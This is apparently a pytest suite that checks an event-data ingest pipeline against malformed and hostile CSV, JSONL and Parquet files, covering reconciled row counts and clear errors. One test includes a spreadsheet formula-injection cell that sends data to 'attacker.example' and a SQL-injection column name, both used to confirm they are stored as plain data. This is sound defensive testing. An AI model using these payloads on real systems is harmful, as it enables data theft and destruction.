"""Hostile input files through the real load path: a clear error or reconciled rejects, no loss."""

from __future__ import annotations

import json
import random

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from cjm.build.files import IngestError
from cjm.build.readers import error_reason
from tests.conftest import build

HEADER = "customer_id,event_time,touchpoint\n"
GOOD = "c1,2026-01-01T10:00:00Z,view\nc2,2026-01-01T11:00:00Z,cart\n"
BIG = 3_000_000  # over DuckDB's default 2 MB line limit
# Seeded, so a failure can be reproduced; the bytes cover every value many times over.
RANDOM = random.Random(20261123).randbytes(4096)


def _jsonl(*rows: dict) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def _event(customer: str, touchpoint: str = "view") -> dict:
    return {"customer_id": customer, "event_time": "2026-01-01T10:00:00Z", "touchpoint": touchpoint}


# name -> (file content, rows read, accepted, rejected, reasons of the rejected rows)
LOADED = {
    "empty.csv": (b"", 0, 0, 0, set()),
    "blank_lines.jsonl": (b"\n\n  \n", 0, 0, 0, set()),
    "header_only.csv": (HEADER.encode(), 0, 0, 0, set()),
    "truncated.csv": ((HEADER + GOOD + "c3,2026-01-01T1").encode(), 3, 2, 1, {"missing columns"}),
    "latin1.csv": (
        (HEADER + GOOD + "c\xe9,2026-01-01T12:00:00Z,caf\xe9\n").encode("latin-1"),
        3,
        2,
        1,
        {"invalid encoding"},
    ),
    "utf16.csv": ((HEADER + GOOD).encode("utf-16"), 2, 2, 0, set()),
    "bom_crlf.csv": (("\ufeff" + HEADER + GOOD).replace("\n", "\r\n").encode(), 2, 2, 0, set()),
    "huge_field.csv": (
        (HEADER + GOOD + "c4,2026-01-01T10:00:00Z," + "x" * BIG).encode(),
        3,
        3,
        0,
        set(),
    ),
    "wrong_types.csv": (
        (HEADER + GOOD + "c5,not a date,view\nc6,,view\n,2026-01-01T10:00:00Z,view\n").encode(),
        5,
        2,
        3,
        {"invalid_event_time", "missing_event_time", "missing_customer_id"},
    ),
    "mixed_delimiters.csv": (
        (HEADER + GOOD + "c7;2026-01-01T10:00:00Z;view\nc8\t2026-01-01T10:00:00Z\tview\n").encode(),
        4,
        2,
        2,
        {"missing columns"},
    ),
    "extra_column.csv": (
        (HEADER + GOOD + "c9,2026-01-01T10:00:00Z,view,surplus\n").encode(),
        3,
        2,
        1,
        {"too many columns"},
    ),
    "giant_line.jsonl": (
        _jsonl(_event("c1"), _event("c2", "x" * BIG), {"no": "customer"}, {"a": 1}) + b"[1, 2]\n",
        5,
        2,
        3,
        {"missing_customer_id", "missing_event_time", "missing_touchpoint", "not a json object"},
    ),
    "broken.jsonl": (
        _jsonl(_event("c1")) + b'{"customer_id": "c2", "event_ti\n' + _jsonl(_event("c3")),
        3,
        2,
        1,
        {"invalid json"},
    ),
}

# name -> (file content, pattern the error must match after the file name)
FAILED = {
    "garbage.csv": (RANDOM, r"cannot read as csv"),
    # Line separators Python knows but DuckDB does not (\r, \v, \x1c) inside the bad first line.
    "garbage.jsonl": (
        b"\xc3\x28\r\x0b\x1c\x85" + RANDOM,
        r"cannot read as jsonl: .*line 1 .*not utf-8",
    ),
    "garbage.parquet": (RANDOM, r"cannot read as parquet"),
    "array.json": (
        json.dumps([_event("c1")]).encode(),
        r"no line is a JSON object.*JSON array",
    ),
    "wrong_header.csv": (b"who,when,what\nc1,2026-01-01,view\n", r"required column 'customer_id'"),
}


def _reasons(con, name: str) -> set[str]:
    rows = con.execute(
        "select reason from rejected_events where source_file like ?", [f"%{name}"]
    ).fetchall()
    return {part.removeprefix("unparseable_row: ") for (r,) in rows for part in r.split("; ")}


@pytest.mark.parametrize("name", sorted(LOADED))
def test_hostile_file_loads_with_reconciled_counts(tmp_path, name):
    content, read, accepted, rejected, reasons = LOADED[name]
    path = tmp_path / name
    path.write_bytes(content)
    con = build([path])
    loads = con.execute(
        "select rows_read, rows_accepted, rows_duplicate, rows_rejected, is_reconciled "
        "from file_loads"
    ).fetchall()
    assert loads == [(read, accepted, 0, rejected, True)]
    assert con.execute("select count(*) from events").fetchone()[0] == accepted
    assert con.execute("select count(*) from rejected_events").fetchone()[0] == rejected
    assert _reasons(con, name) == reasons
    # every rejected row says where it was: the file and the line (or row) in it
    assert con.execute(
        "select count(*) from rejected_events where source_row is null or source_file is null"
    ).fetchone() == (0,)


@pytest.mark.parametrize("name", sorted(FAILED))
def test_unreadable_file_is_a_clear_error_naming_it(tmp_path, name):
    content, pattern = FAILED[name]
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(IngestError, match=rf"^{path}: {pattern}") as err:
        build([path])
    assert "\n" not in str(err.value) and len(str(err.value)) < 1000


def test_huge_field_is_kept_whole(tmp_path):
    path = tmp_path / "huge.csv"
    path.write_bytes(LOADED["huge_field.csv"][0])
    con = build([path])
    assert con.execute("select max(length(touchpoint)) from events").fetchone() == (BIG,)


def test_formula_cells_and_hostile_column_names_are_plain_data(tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
    hostile = 'note"; drop table events; --'
    path = tmp_path / "formula.csv"
    path.write_text(
        f'{HEADER.strip()},"{hostile.replace(chr(34), 2 * chr(34))}"\n'
        f'"{formula.replace(chr(34), 2 * chr(34))}",2026-01-01T10:00:00Z,=1+2,@SUM(A1)\n',
        encoding="utf-8",
    )
    con = build([path])
    row = con.execute("select customer_id, touchpoint, properties from events").fetchone()
    assert row[:2] == (formula, "=1+2")
    assert json.loads(row[2]) == {hostile: "@SUM(A1)"}


def test_parquet_with_wrong_column_types_reconciles(tmp_path):
    path = tmp_path / "wrong_types.parquet"
    table = pa.table(
        {
            "customer_id": [1.5, 2.0, None],
            "event_time": [True, False, True],
            "touchpoint": [1, 2, 3],
            "revenue": ["abc", "1", "2"],
        }
    )
    pq.write_table(table, path)
    con = build([path])
    assert con.execute(
        "select rows_read, rows_accepted, rows_rejected, is_reconciled from file_loads"
    ).fetchone() == (3, 0, 3, True)
    assert {"invalid_event_time", "invalid_revenue", "missing_customer_id"} <= _reasons(
        con, path.name
    )


def test_epoch_parquet_values_load_and_nested_ones_are_an_error(tmp_path):
    path = tmp_path / "typed.parquet"
    table = pa.table(
        {
            "customer_id": pa.array([7, 8], pa.int64()),
            "event_time": pa.array([1767261600, 1767261700], pa.int64()),
            "touchpoint": ["home", "cart"],
            "page": [{"path": "/home"}, {"path": "/cart"}],
        }
    )
    pq.write_table(table, path)
    con = build([path])
    assert con.execute("select count(*) from events").fetchone() == (2,)
    # a nested property stays JSON, not the text of a Python-like struct
    assert con.execute("select properties from events order by source_row").fetchall() == [
        ('{"page":{"path":"/home"}}',),
        ('{"page":{"path":"/cart"}}',),
    ]
    for column, values in {
        "touchpoint": [{"page": "home"}, {"page": "cart"}],
        "customer_id": [[1], [2]],
    }.items():
        pq.write_table(
            table.set_column(table.schema.get_field_index(column), column, [values]), path
        )
        with pytest.raises(IngestError, match=rf"^{path}: column '{column}' is of the nested type"):
            build([path])


def test_every_hostile_file_in_one_run_reconciles_per_file(tmp_path):
    # One file's broken lines must not leak into the counts of the files read after it.
    for name, (content, *_rest) in LOADED.items():
        (tmp_path / name).write_bytes(content)
    con = build(sorted(str(p) for p in tmp_path.iterdir()))
    loads = con.execute(
        "select regexp_extract(source_file, '[^/]+$'), rows_read, "
        "rows_accepted + rows_duplicate, rows_rejected, is_reconciled from file_loads"
    ).fetchall()
    # the same good rows recur across files: later copies are duplicates, still accounted for
    assert {r[0]: r[1:] for r in loads} == {
        name: (read, accepted, rejected, True)
        for name, (_c, read, accepted, rejected, _r) in LOADED.items()
    }
    for name, (*_counts, reasons) in LOADED.items():
        assert _reasons(con, name) == reasons, name


def test_read_error_keeps_its_cause_when_the_echoed_line_holds_separators():
    # DuckDB echoes the offending line; Python's splitlines() would split it at \x1c or \v and
    # stop at the "blank" line in between, losing the cause that follows the echo.
    echoed = "Original Line: ab\x1c\x1ccd\x0b\x0bef"
    exc = duckdb.InvalidInputException(
        f"Invalid Input Error: CSV Error on Line: 1\n{echoed}\n"
        "Invalid unicode (byte sequence mismatch) detected. This file is not utf-8 encoded.\n\n"
        "Possible Solution: Set the correct encoding"
    )
    assert error_reason(exc) == (
        "Invalid Input Error: error on line 1 Invalid unicode (byte sequence mismatch) detected. "
        "This file is not utf-8 encoded."
    )
